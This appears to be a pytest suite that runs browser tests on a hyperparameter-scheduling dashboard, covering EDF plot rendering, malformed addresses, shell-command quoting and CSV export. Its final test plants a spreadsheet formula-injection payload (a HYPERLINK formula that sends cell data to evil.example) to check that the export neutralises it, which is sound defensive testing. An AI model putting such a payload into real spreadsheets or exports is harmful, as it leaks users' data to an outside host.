"""What the dashboard drew or said wrong at its edges, in real headless Chromium, on SQLite and PostgreSQL.

The EDF of a maximised objective (the share of jobs ≥ x, read off the canvas's
pixels), and of values closer than a pixel; an address whose percent-escapes
do not decode; the ``schedy run`` line of an experiment whose name starts
with ``-``, run by the real command.
"""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

import schedy
from tests.dashboard import fill
from tests.dashboard.browser import POLL, open_page

EDF = 'figure[data-plot="edf"]'


@pytest.fixture
def page(chromium: Any, service: Any) -> Iterator[Any]:
    """A logged-in page of the service (both backends) as the test's own user, failing on any error in it."""
    opened = open_page(chromium, f"{service.url}?poll={POLL}", service.user)
    yield opened
    assert opened.errors == []
    opened.context.close()


@pytest.fixture
def api(service: Any) -> Iterator[httpx.Client]:
    """The API as the test's user."""
    http = fill.client(service.user)
    yield http
    http.close()


def manual(api: httpx.Client, name: str, results: list[dict[str, float]]) -> None:
    """A manual experiment with one DONE job per result."""
    fill.put(api, fill.exp_path(name), {"scheduler": {"Manual": None}})
    for i, result in enumerate(results):
        body = {"status": "DONE", "hyperparameters": {"h": i}, "results": result}
        answer = api.post(fill.exp_path(name) + "jobs/", content=json.dumps(body))
        assert answer.status_code == 201, answer.text


def open_experiment(page: Any, service: Any, name: str) -> None:
    page.goto(f"{service.url}?poll={POLL}#/e/{name}")
    page.wait_for_selector(f"body[data-ready=true] {EDF}[data-count]")


def shares_at(page: Any, value: float) -> list[float]:
    """The heights (as shares of jobs) of the curve's blue pixels in the EDF canvas's column at ``value``."""
    found: list[float] = page.eval_on_selector(
        EDF,
        """(fig, value) => {
            const canvas = fig.canvas, ctx = canvas.getContext("2d"), ratio = canvas.width / canvas.clientWidth;
            const [px] = fig.project(value, 0), y0 = fig.project(value, 0)[1], y1 = fig.project(value, 1)[1];
            const column = ctx.getImageData(Math.round(px * ratio), 0, 1, canvas.height).data, out = [];
            for (let row = 0; row < canvas.height; row++) {
                const [r, g, b, a] = column.slice(4 * row, 4 * row + 4);
                if (a > 60 && Math.abs(r - 9) < 60 && Math.abs(g - 105) < 60 && Math.abs(b - 218) < 60)
                    out.push(((row + 0.5) / ratio - y0) / (y1 - y0));
            }
            return out;
        }""",
        value,
    )
    return found


def assert_drawn_at(page: Any, value: float, share: float) -> None:
    drawn = shares_at(page, value)
    assert drawn, f"nothing drawn at x = {value}"
    assert all(abs(s - share) < 0.025 for s in drawn), f"at x = {value}: drawn at {drawn}, expected {share:.3f}"


def test_the_edf_of_a_maximised_objective_is_the_share_of_jobs_at_or_above_each_value(page, service, api):
    manual(api, "edf-max", [{"acc": v} for v in range(6)])
    open_experiment(page, service, "edf-max")
    assert page.get_attribute(EDF, "data-direction") == "max"  # 'acc' is no cost
    steps = json.loads(page.get_attribute(EDF, "data-points"))
    assert steps == [{"x": v, "y": pytest.approx((6 - v) / 6)} for v in range(6)]
    # Left-continuous: up to and at each value its share, then down to the next one's; flat between.
    assert_drawn_at(page, -0.1, 1)
    for k in range(5):  # acc in (k, k + 1): the jobs from k + 1 up
        for x in (k + 0.25, k + 0.5, k + 0.75):
            assert_drawn_at(page, x, (5 - k) / 6)
    # Past the best value no job is at or above: flat on 0 to the right edge, no diagonal.
    for x in (5.05, 5.1, 5.15):
        assert_drawn_at(page, x, 0)


def test_the_edf_keeps_its_height_across_values_closer_than_a_pixel(page, service, api):
    # Three values within a pixel, then one far: one corner for the three, up to their share.
    manual(api, "edf-dense", [{"loss": v} for v in (0.0, 1e-4, 2e-4, 10.0)])
    open_experiment(page, service, "edf-dense")
    assert page.get_attribute(EDF, "data-direction") == "min"
    assert_drawn_at(page, -0.2, 0)
    for x in (2.0, 5.0, 8.0):
        assert_drawn_at(page, x, 0.75)
    assert_drawn_at(page, 10.2, 1)

    # Maximised, the same values: every job at or above up to 0, one job from just past 2e-4 to 10.
    page.select_option("select[name=direction]", "max")
    page.wait_for_function(f"document.querySelector('{EDF}').dataset.direction === 'max'")
    assert_drawn_at(page, -0.2, 1)
    for x in (2.0, 5.0, 8.0):
        assert_drawn_at(page, x, 0.25)
    assert_drawn_at(page, 10.2, 0)


@pytest.mark.parametrize("fragment", ["#/e/%E0%A4%A", "#/e/weird/j/%E0%A4%A", "#/e/50%"])
def test_an_address_that_does_not_decode_says_so_with_a_way_back(page, service, api, fragment):
    fill.put(api, fill.exp_path("weird"), {"scheduler": {"Manual": None}})
    for arrive in ("hashchange", "load"):
        if arrive == "hashchange":
            page.goto(f"{service.url}?poll={POLL}{fragment}")  # from the list: the same document
        else:
            page.reload()  # a fresh page at that address: start.js and the login's route
        page.wait_for_selector("body[data-page=bad-address] p.error")
        message = page.inner_text("main p.error")
        assert f"“{fragment}” is not a valid experiment or job address" in message, message
        assert page.locator("main table.experiments").count() == 0  # not the list, as if nothing were wrong
        assert page.errors == []  # no uncaught URIError
    page.click("main p.error a[href='#/']")
    page.wait_for_selector("body[data-page=list] table.experiments tr[data-experiment='weird']")


def test_the_shell_line_of_an_experiment_named_like_an_option_runs(page, service, api, tmp_path: Path):
    name = "-lr-sweep"
    fill.put(api, fill.exp_path(name), {"scheduler": {"RandomSearch": {"x": {"uniform": {"low": 0, "high": 1}}}}})
    page.goto(f"{service.url}?poll={POLL}#/e/{name}")
    page.wait_for_selector("pre.start-workers")
    text = page.inner_text("pre.start-workers")
    assert f"get_experiment({json.dumps(name)})" in text
    line = next(line for line in text.splitlines() if line.startswith("schedy run"))
    assert line == "schedy run -n 4 -- -lr-sweep python train.py %h"

    # The real command takes it: the name after "--", the command (%h: --x VALUE) after the name.
    words = shlex.split(line)
    train = words.index("python")
    script = "import json, sys; print('--- RESULTS ---'); print(json.dumps({'loss': float(sys.argv[2])}))"
    config = tmp_path / "client.json"
    config.write_text(json.dumps(service.client_config))
    argv = [sys.executable, "-m", "schedy.cli.main", "--config", str(config), *words[1:train]]
    argv += [sys.executable, "-c", script, *words[train + 2 :]]
    done = subprocess.run(argv, capture_output=True, text=True, timeout=120, env=clean_env(tmp_path), check=False)
    assert done.returncode == 0, done.stderr
    with schedy.SchedyDB(config_override=service.client_config, heartbeat=0) as db:
        jobs = list(db.get_experiment(name).all_jobs())
    assert len(jobs) == 4
    assert all(j.status == "DONE" and j.results["loss"] == j.hyperparameters["x"] for j in jobs)


def clean_env(home: Path) -> dict[str, str]:
    """A ``schedy`` subprocess's environment: no SCHEDY_* variable, a private HOME."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("SCHEDY_")}
    env["HOME"] = str(home)
    return env


def test_the_worker_snippet_of_an_empty_search_sets_the_result_the_search_ranks_by(page, service, api):
    """Copied as shown, a TPE search ranking by val_loss must get val_loss, not "loss" (it would learn nothing)."""
    space = {"x": {"uniform": {"low": 0, "high": 1}}}
    fill.put(
        api,
        fill.exp_path("tpe-val"),
        {"scheduler": {"TPESearch": {"distributions": space, "objective": "min", "resultName": "val_loss"}}},
    )
    page.goto(f"{service.url}?poll={POLL}#/e/tpe-val")
    page.wait_for_selector("pre.start-workers")
    assert 'job.results["val_loss"] = train(**job.hyperparameters)' in page.inner_text("pre.start-workers")
    fill.put(api, fill.exp_path("plain"), {"scheduler": {"RandomSearch": space}})
    page.goto(f"{service.url}?poll={POLL}#/e/plain")
    page.wait_for_selector("pre.start-workers")
    assert 'job.results["loss"] = train(**job.hyperparameters)' in page.inner_text("pre.start-workers")


def test_an_empty_search_shows_no_importance_section_and_asks_for_none(page, service, api):
    space = {"x": {"uniform": {"low": 0, "high": 1}}}
    tpe = {"TPESearch": {"distributions": space, "objective": "min", "resultName": "val_loss"}}
    fill.put(api, fill.exp_path("tpe-empty"), {"scheduler": tpe})
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url) if "/importance/" in request.url else None)
    page.goto(f"{service.url}?poll={POLL}#/e/tpe-empty")
    page.wait_for_selector("pre.start-workers")
    page.wait_for_timeout(500)  # a refresh or two
    assert "Importance unavailable" not in page.inner_text("main")
    assert asked == []


def test_the_csv_download_does_not_hand_a_spreadsheet_a_formula(page, service, api):
    """Texts starting with = + - @ are written as JSON, quotes included (text when the file is opened, and read
    back as the same text by ``schedy import``); numbers stay numbers."""
    import csv

    fill.put(api, fill.exp_path("formulas"), {"scheduler": {"Manual": None}})
    body = {
        "status": "DONE",
        "hyperparameters": {"h": '=HYPERLINK("http://evil.example/?"&A1,"click")', "plain": "sgd"},
        "results": {"loss": -1.5, "tag": "@SUM(A1)", "sign": "+1", "dash": "-2+3"},
    }
    assert api.post(fill.exp_path("formulas") + "jobs/", content=json.dumps(body)).status_code == 201
    open_experiment(page, service, "formulas")
    with page.expect_download() as caught:
        page.click('button[data-action="download-csv"]')
    rows = list(csv.DictReader(Path(caught.value.path()).read_text(encoding="utf-8").splitlines()))
    assert len(rows) == 1
    row = rows[0]
    assert row["hyperparameters.h"] == json.dumps(body["hyperparameters"]["h"])
    assert row["hyperparameters.h"].startswith('"=HYPERLINK')
    assert (row["results.tag"], row["results.sign"], row["results.dash"]) == ('"@SUM(A1)"', '"+1"', '"-2+3"')
    assert (row["hyperparameters.plain"], row["results.loss"]) == ("sgd", "-1.5")
